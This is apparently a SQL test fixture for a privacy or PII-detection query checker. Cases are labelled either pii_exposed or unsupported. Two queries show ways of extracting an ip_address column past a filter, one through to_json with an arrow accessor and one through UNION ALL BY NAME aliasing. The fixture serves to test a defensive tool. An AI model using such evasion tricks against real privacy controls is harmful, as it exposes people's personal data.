-- @case json_arrow_on_pii pii_exposed
SELECT to_json(ip_address)->>'$' AS x FROM consent_events
-- @case union_by_name_branch pii_exposed
SELECT platform FROM consent_events UNION ALL BY NAME SELECT ip_address AS platform FROM consent_events

-- ===== unsupported =====
-- @case pivot_in_from unsupported
SELECT * FROM consent_events PIVOT (count(*) FOR platform IN ('ios', 'android'))
-- @case pivot_subquery unsupported
SELECT * FROM (PIVOT consent_events ON ip_address USING count(*)) AS p
-- @case unpivot_in_from unsupported
SELECT * FROM deployments UNPIVOT (val FOR col IN (platform, region))
-- @case catalog_table_column_renaming unsupported
SELECT c.x FROM consent_events AS c(a, b, c3, x)
-- @case catalog_table_column_renaming_unqualified unsupported
SELECT x FROM consent_events AS c(a, b, c3, x)
